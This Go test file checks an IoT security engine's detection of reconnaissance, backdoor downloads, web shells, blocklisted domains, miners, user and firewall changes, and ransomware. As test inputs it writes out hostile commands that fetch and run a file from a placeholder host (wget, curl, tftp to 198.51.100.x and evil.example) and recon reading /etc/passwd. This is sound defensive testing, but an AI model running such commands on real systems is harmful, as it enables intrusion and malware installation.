package host

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vauban-iot/vauban/defender/alert"
	"github.com/vauban-iot/vauban/defender/intel"
	"github.com/vauban-iot/vauban/iot"
	"github.com/vauban-iot/vauban/wire/secmsg"
)

var start = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

// teller sends messages of one device to an engine.
type teller struct {
	t *testing.T
	*Engine
	sequence uint64
}

func (s *teller) tell(events ...secmsg.Event) []Finding {
	s.t.Helper()
	s.sequence++
	found, err := s.Judge(s.t.Context(), Message{From: iot.ID{Device: "d"}, Sequence: s.sequence, Enqueued: start, Report: &secmsg.Report{Events: events}})
	if err != nil {
		s.t.Fatal(err)
	}
	return found
}

// started is a process, seconds after the start.
func started(seconds int, p secmsg.Process) secmsg.Event {
	p.EventType = "EXEC"
	return secmsg.Event{Name: "Process", Time: start.Add(time.Duration(seconds) * time.Second), Payload: []secmsg.Item{p}}
}

func typed(seconds int, program, text string) secmsg.Event {
	return started(seconds, secmsg.Process{Executable: program, CommandLine: text, HitCount: 1})
}

func kinds(fs []Finding) string {
	var all []string
	for _, f := range fs {
		all = append(all, f.Type+" "+f.Indicator)
	}
	slices.Sort(all)
	return strings.Join(all, "; ")
}

func want(t *testing.T, what string, got []Finding, want string) {
	t.Helper()
	if kinds(got) != want {
		t.Errorf("%s: got %q, want %q", what, kinds(got), want)
	}
}

func TestEngine_Reconnaissance(t *testing.T) {
	t.Parallel()
	questions := []string{"uname -a", "id", "cat /proc/cpuinfo", "whoami", "ifconfig"}
	ask := func(s *teller, gap int) (found []Finding) {
		for i, q := range questions {
			found = append(found, s.tell(typed(i*gap, "", q))...)
		}
		return found
	}
	want(t, "a burst", ask(&teller{t: t, Engine: New(Config{})}, 1), "IoT_LinuxReconnaissance questions of user number 0")
	want(t, "over a quarter of an hour", ask(&teller{t: t, Engine: New(Config{})}, 200), "")
	s := &teller{t: t, Engine: New(Config{})}
	want(t, "the same again and again", slices.Concat(s.tell(typed(0, "", "id")), s.tell(typed(1, "", "id")), s.tell(typed(1, "", "id")), s.tell(typed(2, "", "uname")), s.tell(typed(2, "", "uname -r"))), "")
	s = &teller{t: t, Engine: New(Config{})}
	var events []secmsg.Event
	for i, q := range []string{"df -h", "free -m", "uptime", "ps aux", "ss -tln", "nproc", "mount"} {
		events = append(events, typed(i/3, "", q))
	}
	want(t, "monitoring", s.tell(events...), "")
	found := (&teller{t: t, Engine: New(Config{})}).tell(typed(0, "/bin/sh", `sh -c "uname -a; id; cat /etc/passwd; w; ip a"`))
	want(t, "one command", found, "IoT_LinuxReconnaissance questions of user number 0")
	if found[0].Count != 1 || len(found[0].Items) != 1 || !strings.Contains(found[0].Text, "id, ip, passwd, uname, w") {
		t.Errorf("%+v", found[0])
	}
}

func TestEngine_Backdoor(t *testing.T) {
	t.Parallel()
	fetch := typed(0, "/usr/bin/wget", "wget http://198.51.100.3/kit -O /var/lib/kit")
	for _, c := range []struct {
		what string
		run  secmsg.Event
		want string
	}{
		{"run", typed(60, "/var/lib/kit", "/var/lib/kit -d"), "IoT_LinuxBackdoor downloaded: http://198.51.100.3/kit"},
		{"by a shell", typed(60, "/bin/sh", "sh /var/lib/kit"), "IoT_LinuxBackdoor downloaded: http://198.51.100.3/kit"},
		{"much later", typed(3600, "/var/lib/kit", "/var/lib/kit -d"), ""},
		{"another file", typed(60, "/usr/bin/kit", "/usr/bin/kit"), ""},
		{"read", typed(60, "/bin/cat", "cat /var/lib/kit"), ""},
		{"made one that runs", typed(60, "/bin/chmod", "chmod +x /var/lib/kit"), ""},
	} {
		s := &teller{t: t, Engine: New(Config{})}
		want(t, "the download", s.tell(fetch), "")
		want(t, c.what, s.tell(c.run), c.want)
		if found := (&teller{t: t, Engine: New(Config{})}).tell(fetch, c.run); c.want != "" && (len(found) != 1 || found[0].Count != 1 || len(found[0].Items) != 2) {
			t.Errorf("%s in one message: %+v", c.what, found)
		}
		want(t, c.what+", of another device", s.other(c.run), "")
	}
}

func (s *teller) other(events ...secmsg.Event) []Finding {
	found, err := s.Judge(s.t.Context(), Message{From: iot.ID{Device: "other"}, Sequence: 99, Enqueued: start, Report: &secmsg.Report{Events: events}})
	if err != nil {
		s.t.Fatal(err)
	}
	return found
}

func TestEngine_WebShell(t *testing.T) {
	t.Parallel()
	server := started(0, secmsg.Process{Executable: "/usr/sbin/lighttpd", CommandLine: "lighttpd -D", ProcessID: 40, ParentProcessID: 1, HitCount: 1})
	child := func(parent uint32, user, text string) secmsg.Event {
		return started(1, secmsg.Process{Executable: "/bin/sh", CommandLine: text, ProcessID: 90, ParentProcessID: parent, UserName: user, HitCount: 1})
	}
	s := &teller{t: t, Engine: New(Config{})}
	want(t, "before the server is known", s.tell(child(40, "", `sh -c "ls"`)), "")
	s.tell(server)
	want(t, "a child of the server", s.tell(child(40, "", `sh -c "ls"`)), "IoT_WebShell shell of a web server: ls")
	want(t, "another parent", s.tell(child(41, "", `sh -c "ls"`)), "")
	want(t, "a page that is a script", s.tell(child(40, "", "/bin/sh /www/cgi-bin/status")), "")
	s.tell(started(2, secmsg.Process{Executable: "/bin/sleep", CommandLine: "sleep 9", ProcessID: 40, HitCount: 1}))
	want(t, "the number is another's", s.tell(child(40, "", `sh -c "ls"`)), "")
	want(t, "the user of web servers asks who it is", s.tell(child(7, "www-data", `sh -c "id; uname -a"`)), "IoT_WebShell shell of www-data: uname")
	want(t, "the user of web servers has a job", s.tell(child(7, "www-data", `sh -c "php -f /var/www/cron.php"`)), "")

	s = &teller{t: t, Engine: New(Config{})}
	s.tell(secmsg.Event{Name: "ListeningPorts", Payload: []secmsg.Item{secmsg.ListeningPort{Local: netip.MustParseAddrPort("0.0.0.0:80"), Protocol: "TCP", ProcessID: 40, Executable: "/usr/sbin/nginx"}}})
	want(t, "known by its port", s.tell(child(40, "", "sh -i")), "IoT_WebShell shell of a web server: sh")
	s = &teller{t: t, Engine: New(Config{})}
	s.tell(secmsg.Event{Name: "ConnectionCreate", Flows: []secmsg.Flow{{ProcessID: 40, Executable: "/usr/sbin/php-fpm8.2"}}})
	want(t, "known by its connections", s.tell(child(40, "", `sh -c ls`)), "IoT_WebShell shell of a web server: ls")
}

func list(t testing.TB) func() List {
	t.Helper()
	b := intel.NewBuilder(intel.Source{Name: "feed", Own: true})
	for _, i := range []intel.Item{{Domain: "evil.example", Line: 1}, {Value: netip.MustParsePrefix("198.51.100.66/32"), Line: 2}, {Value: netip.MustParsePrefix("198.51.100.67/32"), Port: 8080, Line: 3}} {
		b.Add(&i)
	}
	set := intel.NewSet(b.Block())
	return func() List { return set }
}

func TestEngine_Lists(t *testing.T) {
	t.Parallel()
	s := &teller{t: t, Engine: New(Config{List: list(t)})}
	dns := func(name string) secmsg.Event {
		return secmsg.Event{Name: "Dns", Payload: []secmsg.Item{secmsg.DNSQuery{Name: name, Type: "A", Executable: "/usr/bin/app", HitCount: 4}}}
	}
	found := s.tell(dns("c2.EVIL.example"))
	want(t, "a name below", found, "IoT_MaliciousNameQueriesDetection evil.example")
	if found[0].Count != 4 || found[0].Source != "feed:1" {
		t.Errorf("%+v", found)
	}
	want(t, "a name beside", s.tell(dns("notevil.example"), dns("evil.example.org"), dns(""), dns("..")), "")
	want(t, "JSON 1.0", s.tell(raw("DNS", `{"Name":"evil.example","Addresses":["203.0.113.1"]}`)), "IoT_MaliciousNameQueriesDetection evil.example")
	want(t, "a name beside a connection", s.tell(raw("ConnectionCreate", `{"RemoteAddress":"203.0.113.1","ExtraDetails":{"DnsName":"evil.example"}}`)), "IoT_MaliciousNameQueriesDetection evil.example")
	want(t, "a pool", s.tell(dns("xmr.nanopool.org.")), "IoT_CryptoMiner pool: xmr.nanopool.org")
	for text, expect := range map[string]string{
		"wget http://cdn.evil.example/x":                   "IoT_PossibleMalware evil.example",
		"curl -o a 198.51.100.66/a":                        "IoT_PossibleMalware 198.51.100.66",
		"tftp -g -r a 198.51.100.66":                       "IoT_PossibleMalware 198.51.100.66",
		"app --update=https://evil.example/u":              "IoT_PossibleMalware evil.example",
		"wget http://198.51.100.67:8080/a":                 "IoT_PossibleMalware 198.51.100.67:8080",
		"wget http://198.51.100.67/a":                      "",
		"wget https://good.example/evil.example":           "",
		"curl https://good.example/?u=http://evil.example": "",
		"wget http://":                                     "",
		"wget http://[::1":                                 "",
	} {
		want(t, text, s.tell(typed(0, "", text)), expect)
	}
}

func raw(name string, items ...string) secmsg.Event {
	e := secmsg.Event{Name: name}
	for _, i := range items {
		e.Payload = append(e.Payload, secmsg.Raw(i))
	}
	return e
}

func TestEngine_Users(t *testing.T) {
	t.Parallel()
	user := func(name, id, groups, gids string) string {
		return fmt.Sprintf(`{"UserName":%q,"UserId":%q,"GroupNames":%q,"GroupIds":%q}`, name, id, groups, gids)
	}
	root, ada := user("root", "0", "root", "0"), user("ada", "1000", "ada;dialout", "1000;20")
	s := &teller{t: t, Engine: New(Config{})}
	want(t, "the first list", s.tell(raw("LocalUsers", root, ada)), "")
	want(t, "the same", s.tell(raw("LocalUsers", ada, root)), "")
	want(t, "the same, in another order", s.tell(raw("LocalUsers", root, user("ada", "1000", "dialout;ada", "20;1000"))), "")
	found := s.tell(raw("LocalUsers", root, user("ada", "1000", "ada;sudo", "1000;27")))
	want(t, "groups", found, "IoT_LocalUserAddedToGroups user: ada; IoT_LocalUserDeletedFromGroups user: ada")
	if len(found[0].Items) != 1 || found[0].Items[0] != [2]int{0, 1} {
		t.Errorf("%+v", found)
	}
	want(t, "a new user", s.tell(raw("LocalUsers", root, user("ada", "1000", "ada;sudo", "1000;27"), user("eve", "0", "root", "0"))), "IoT_LocalUserAddedToGroups user: eve")
	want(t, "users are gone", s.tell(raw("LocalUsers", root)), "IoT_LocalUserDeleted user: ada; IoT_LocalUserDeleted user: eve")
	want(t, "the names are masked from now on", s.tell(raw("LocalUsers", user("user-abc", "0", "user-abc", "0"))), "")
	want(t, "a list of something else", s.tell(raw("LocalUsers", user("x", "77", "x", "77"))), "")
	want(t, "an empty list", s.tell(raw("LocalUsers")), "")
	want(t, "nonsense", s.tell(raw("LocalUsers", `[]`, `{"UserName":7}`, `{}`)), "")
	many := make([]string, maxAccounts+1)
	for i := range many {
		many[i] = user(fmt.Sprint("u", i), fmt.Sprint(i), "", "")
	}
	want(t, "too many", s.tell(raw("LocalUsers", many...)), "")
	// Parts of one list come in several events of one time.
	want(t, "in parts", s.tell(raw("LocalUsers", user("x", "77", "x", "77")), raw("LocalUsers", ada)), "IoT_LocalUserAddedToGroups user: ada")
}

func TestEngine_Firewall(t *testing.T) {
	t.Parallel()
	deny := `{"Enabled":true,"Action":"Deny","Priority":2,"Direction":"In","ChainName":"INPUT"}`
	allow := `{"Enabled":true,"Action":"Allow","Priority":1,"Direction":"In","ChainName":"INPUT"}`
	const off = "IoT_DisableFirewall configuration: nothing is kept out"
	s := &teller{t: t, Engine: New(Config{})}
	want(t, "the first", s.tell(raw("FirewallConfiguration", allow, deny)), "")
	want(t, "one rule less", s.tell(raw("FirewallConfiguration", deny)), "")
	want(t, "open", s.tell(raw("FirewallConfiguration", allow)), off)
	want(t, "still open", s.tell(raw("FirewallConfiguration", allow)), "")
	want(t, "guarded", s.tell(raw("FirewallConfiguration", deny)), "")
	want(t, "switched off", s.tell(raw("FirewallConfiguration", strings.Replace(deny, "true", "false", 1))), off)
	s.tell(raw("FirewallConfiguration", deny))
	want(t, "empty", s.tell(raw("FirewallConfiguration")), off)
	want(t, "a device that never had one", (&teller{t: t, Engine: New(Config{})}).tell(raw("FirewallConfiguration", allow)), "")
}

// A restart forgets; lists are compared with the kept events then.
func TestEngine_Previous(t *testing.T) {
	t.Parallel()
	fail, asked := true, 0
	e := New(Config{Previous: func(_ context.Context, from iot.ID, name string, before uint64) (secmsg.Event, bool, error) {
		if asked++; fail {
			return secmsg.Event{}, false, errors.New("away")
		}
		if from.Device != "d" || before != 7 || name != "LocalUsers" {
			t.Errorf("asked for %s of %v before %d", name, from, before)
		}
		return raw("LocalUsers", `{"UserName":"root","UserId":"0","GroupIds":"0"}`, `{"UserName":"eve","UserId":"5","GroupIds":"5"}`), true, nil
	}})
	now := secmsg.Report{Events: []secmsg.Event{raw("LocalUsers", `{"UserName":"root","UserId":"0","GroupIds":"0"}`)}}
	m := Message{From: iot.ID{Device: "d"}, Sequence: 7, Enqueued: start, Report: &now}
	if _, err := e.Judge(t.Context(), m); err == nil {
		t.Error("a store that is away was no error")
	}
	fail = false
	found, err := e.Judge(t.Context(), m)
	if err != nil {
		t.Fatal(err)
	}
	want(t, "after a restart", found, "IoT_LocalUserDeleted user: eve")
	if _, err := e.Judge(t.Context(), m); err != nil || asked != 2 {
		t.Errorf("%v, asked %d times", err, asked)
	}
}

func TestEngine_LoginsFilesAndHardware(t *testing.T) {
	t.Parallel()
	login := func(v secmsg.LoginRecord) secmsg.Event {
		return secmsg.Event{Name: "Login", Payload: []secmsg.Item{v}}
	}
	file := func(action, path string) secmsg.FileChange {
		return secmsg.FileChange{Action: action, Path: path, HitCount: 1}
	}
	files := func(all ...secmsg.FileChange) secmsg.Event {
		e := secmsg.Event{Name: "FileSystem", Time: start}
		for _, f := range all {
			e.Payload = append(e.Payload, f)
		}
		return e
	}
	var many, locked []secmsg.FileChange
	for i := range 40 {
		many = append(many, file(secmsg.Modified, fmt.Sprintf("/etc/app/%d", i)))
	}
	for i := range manyRansoms {
		locked = append(locked, file(secmsg.Created, fmt.Sprintf("/data/%d.locked", i)))
	}
	for _, c := range []struct {
		what string
		e    secmsg.Event
		want string
	}{
		{"on the console", login(secmsg.LoginRecord{Operation: "Login", UserName: "root", Executable: "login", HitCount: 1}), "IoT_SucessfulLocalLogin user: root"},
		{"failed", login(secmsg.LoginRecord{Operation: "LoginFailed", UserName: "root", RemoteAddress: "127.0.0.1"}), "IoT_FailedLocalLogin user: root"},
		{"from elsewhere", login(secmsg.LoginRecord{Operation: "Login", UserName: "root", RemoteAddress: "192.0.2.4"}), ""},
		{"signed out", login(secmsg.LoginRecord{Operation: "Logout", UserName: "root"}), ""},
		{"a job of cron", login(secmsg.LoginRecord{Operation: "Login", UserName: "root", Executable: "/usr/sbin/cron"}), ""},
		{"JSON 1.0", raw("Login", `{"ProcessId":1,"Operation":"UserAuth","Executable":"/bin/login","Result":"Fail","UserName":"eve","RemoteAddress":"::1"}`), "IoT_FailedLocalLogin user: eve"},

		{"created", files(file(secmsg.Created, "/etc/rc.local")), "IoT_FileCreated /etc/rc.local"},
		{"modified and deleted", files(file(secmsg.Modified, "/etc/a"), file(secmsg.Deleted, "/etc/b"), file("Touched", "/etc/c"), file(secmsg.Created, "")), "IoT_FileDeleted /etc/b; IoT_FileModified /etc/a"},
		{"by the bits of inotify", files(secmsg.FileChange{Mask: 0x100, Path: "/a"}, secmsg.FileChange{Mask: 0x2, Path: "/b"}, secmsg.FileChange{Mask: 0x200, Path: "/c"}, secmsg.FileChange{Mask: 0x20, Path: "/d"}), "IoT_FileCreated /a; IoT_FileDeleted /c; IoT_FileModified /b"},
		{"very many", files(many...), "IoT_FileModified /etc/app/"},
		{"htaccess", files(file(secmsg.Modified, "/www/.htaccess")), "IoT_AccessingHtaccessFile htaccess: /www/.htaccess; IoT_FileModified /www/.htaccess"},
		{"htaccess as JSON 1.0", raw("FileSystem", `{"mask":2,"path":"/www/.htaccess","hit_count":1}`), "IoT_AccessingHtaccessFile htaccess: /www/.htaccess; IoT_FileModified /www/.htaccess"},
		{"a note", files(file(secmsg.Created, "/srv/README_FOR_DECRYPT.txt")), "IoT_FileCreated /srv/README_FOR_DECRYPT.txt; IoT_Ransomware note: README_FOR_DECRYPT.txt"},
		{"a file for people", files(file(secmsg.Created, "/srv/README.txt"), file(secmsg.Created, "/srv/how-to-install.txt")), "IoT_FileCreated /srv/README.txt; IoT_FileCreated /srv/how-to-install.txt"},
		{"many that are locked", files(locked...), strings.Join(func() (all []string) {
			for i := range locked {
				all = append(all, "IoT_FileCreated "+locked[i].Path)
			}
			return append(all, "IoT_Ransomware files: .locked")
		}(), "; ")},

		{"USB", secmsg.Event{Name: "Peripheral", Payload: []secmsg.Item{secmsg.Peripheral{Type: "USB", Action: "connect", Product: "46d/c31c/110", HitCount: 1}}}, "IoT_USBConnection USB device: 46d/c31c/110"},
		{"USB is gone", secmsg.Event{Name: "Peripheral", Payload: []secmsg.Item{secmsg.Peripheral{Type: "USB", Action: "disconnect", DeviceClass: "08"}}}, "IoT_UsbDisconnection USB device: class 08/"},
		{"Ethernet", secmsg.Event{Name: "Peripheral", Payload: []secmsg.Item{secmsg.Peripheral{Type: "Ethernet", Action: "connect", InterfaceName: "eth1"}, secmsg.Peripheral{Type: "Ethernet", Action: "bounce", InterfaceName: "eth2"}}}, "IoT_EthernetConnection network card: eth1"},
		{"Ethernet is gone", secmsg.Event{Name: "Peripheral", Payload: []secmsg.Item{secmsg.Peripheral{Type: "Ethernet", Action: "Disconnect", InterfaceName: "eth1"}}}, "IoT_EthernetDisconnection network card: eth1"},

		{"docker's port", raw("ListeningPorts", `{"Protocol":"tcp","LocalAddress":"0.0.0.0","LocalPort":"2375"}`), "IoT_ExposedDocker port: 2375"},
		{"docker's port, inside", raw("ListeningPorts", `{"Protocol":"tcp","LocalAddress":"127.0.0.1","LocalPort":2375}`, `{"Protocol":"tcp","LocalPort":"2376"}`, `{"Protocol":"udp","LocalPort":"2375"}`), ""},
		{"a twin that cannot be read", raw("ConfigurationError", `{"ConfigurationName":"snapshotFrequency","ErrorType":"TypeMismatch","UsedConfiguration":"PT13H","Message":"no duration"}`), "IoT_AgentFailedToParseTwin configuration: snapshotFrequency"},
		{"a twin that is not good", raw("ConfigurationError", `{"ConfigurationName":"x","ErrorType":"NotOptimal"}`, `7`), ""},
	} {
		want(t, c.what, (&teller{t: t, Engine: New(Config{})}).tell(c.e), c.want)
	}
}

func TestEngine_Masked(t *testing.T) {
	t.Parallel()
	s := &teller{t: t, Engine: New(Config{})}
	p := secmsg.Process{Executable: "/usr/bin/nmap", CommandLine: "nmap [masked]", UserName: "user-abcdefghijklmnop", HitCount: 3}
	found := s.tell(started(0, p))
	want(t, "a tool", found, "IoT_KnownAttackTools tool: nmap")
	if found[0].Count != 3 || !strings.Contains(found[0].Text, "“nmap [masked]” as user “user-abcdefghijklmnop”") {
		t.Errorf("%+v", found[0])
	}
	for _, text := range []string{"sh [masked]", "[masked]", "python3 [masked]", `"/bin/my shell" [masked]`, "wget [masked]", "sudo [masked]", "busybox [masked]", "env", "find [masked]", "su [masked]", "eval", "watch", "xargs", "timeout 5", "sh -c", "docker run", "ssh", "nc", "cp", "iptables -P INPUT"} {
		want(t, text, s.tell(typed(0, "", text)), "")
	}
}

func TestEngine_IsBounded(t *testing.T) {
	t.Parallel()
	s := &teller{t: t, Engine: New(Config{})}
	var events []secmsg.Event
	for i := range 500 {
		events = append(events, typed(0, "", fmt.Sprintf("useradd -m user%d", i)))
	}
	if n := len(s.tell(events...)); n != maxFindings {
		t.Errorf("%d findings of one message", n)
	}
	for i := range 5 * maxDevices {
		s.devices.of(iot.ID{Device: fmt.Sprint(i)})
	}
	if n := len(s.devices.new) + len(s.devices.old); n > 2*maxDevices {
		t.Errorf("%d devices are remembered", n)
	}
	if s.devices.get(iot.ID{Device: fmt.Sprint(5*maxDevices - maxDevices)}) == nil {
		t.Error("one of those heard of last was forgotten")
	}
	for range 100 {
		events = append(events, typed(0, "", "wget http://x.example/a -O /b"), typed(0, "/usr/sbin/nginx", "nginx"))
	}
	s.tell(events...)
	if d := s.devices.get(iot.ID{Device: "d"}); len(d.got) > maxDownload || len(d.web) > maxWeb {
		t.Errorf("%d downloads, %d servers", len(d.got), len(d.web))
	}
}

func TestEngine_Indicators(t *testing.T) {
	t.Parallel()
	s := &teller{t: t, Engine: New(Config{})}
	found := s.tell(typed(0, "", "nmap -sS 10.0.0.1"), typed(1, "", "/usr/local/bin/nmap -p- 10.0.0.2"), typed(2, "", "useradd -m eve\x00\xff"))
	want(t, "the same tool", found, "IoT_KnownAttackTools tool: nmap; IoT_SuspiciousUseradd user added: eve \uFFFD")
	if found[0].Count != 2 || len(found[0].Items) != 2 || found[0].Type != "IoT_KnownAttackTools" {
		t.Errorf("%+v", found[0])
	}
	long := s.tell(typed(0, "", "useradd -m "+strings.Repeat("x", 4000)))
	if len(long) != 1 || len(long[0].Indicator) > 200 || len(long[0].Text) > 400 {
		t.Errorf("%+v", long)
	}
	if k := alert.Lookup(alert.TwinNotParsed); k.Severity != alert.Medium {
		t.Errorf("%+v", k)
	}
}

// FuzzJudge: nothing that a device says of a process makes the engine fail, or find more than it may.
func FuzzJudge(f *testing.F) {
	for _, c := range cases {
		for _, e := range append(c.yes, c.not...) {
			f.Add(e.program, e.line)
		}
	}
	f.Add("sh", strings.Repeat("$(", 5000))
	f.Add("", "find . "+strings.Repeat("-exec sh -c 'a ", 300))
	set := list(f)
	f.Fuzz(func(t *testing.T, program, text string) {
		r := secmsg.Report{Events: []secmsg.Event{typed(0, program, text), typed(1, text, program)}}
		found, err := New(Config{List: set}).Judge(t.Context(), Message{Report: &r, Sequence: 1})
		if err != nil || len(found) > maxFindings {
			t.Fatalf("%d findings, %v", len(found), err)
		}
		for _, x := range found {
			if _, err := json.Marshal(x); err != nil || strings.ContainsRune(x.Indicator+x.Text, 0) || len(x.Indicator) > 200 {
				t.Errorf("%+v", x)
			}
		}
		if n := len(parse(program, text).commands); n > maxCommands {
			t.Errorf("%d commands", n)
		}
	})
}

// BenchmarkProcess is the whole table over the ordinary lines, for each line.
func BenchmarkProcess(b *testing.B) {
	all := corpus()
	e := New(Config{})
	i := 0
	for b.Loop() {
		x := all[i%len(all)]
		i++
		r := secmsg.Report{Events: []secmsg.Event{typed(0, x.program, x.line)}}
		if _, err := e.Judge(b.Context(), Message{From: iot.ID{Device: "d"}, Sequence: uint64(i), Enqueued: start, Report: &r}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkHostile is lines that cost much, of the length that is read.
func BenchmarkHostile(b *testing.B) {
	for name, part := range map[string]string{
		"substitutions": "$(a `b ", "downloads": "wget -O /a$ http://x/a;chmod 777 /b;", "decoders": "base64 -d|", "find": "find / -exec ", "evals": "eval ", "quotes": `"$(a" `,
		"shells": "sh -c 'x' ", "copies": "cp /bin/ls /bin/ps ",
	} {
		b.Run(name, func(b *testing.B) {
			e := New(Config{})
			r := secmsg.Report{Events: []secmsg.Event{typed(0, "sh", "sh -c "+strings.Repeat(part, maxLine/len(part)))}}
			for b.Loop() {
				if _, err := e.Judge(b.Context(), Message{Report: &r, Sequence: 1, Enqueued: start}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
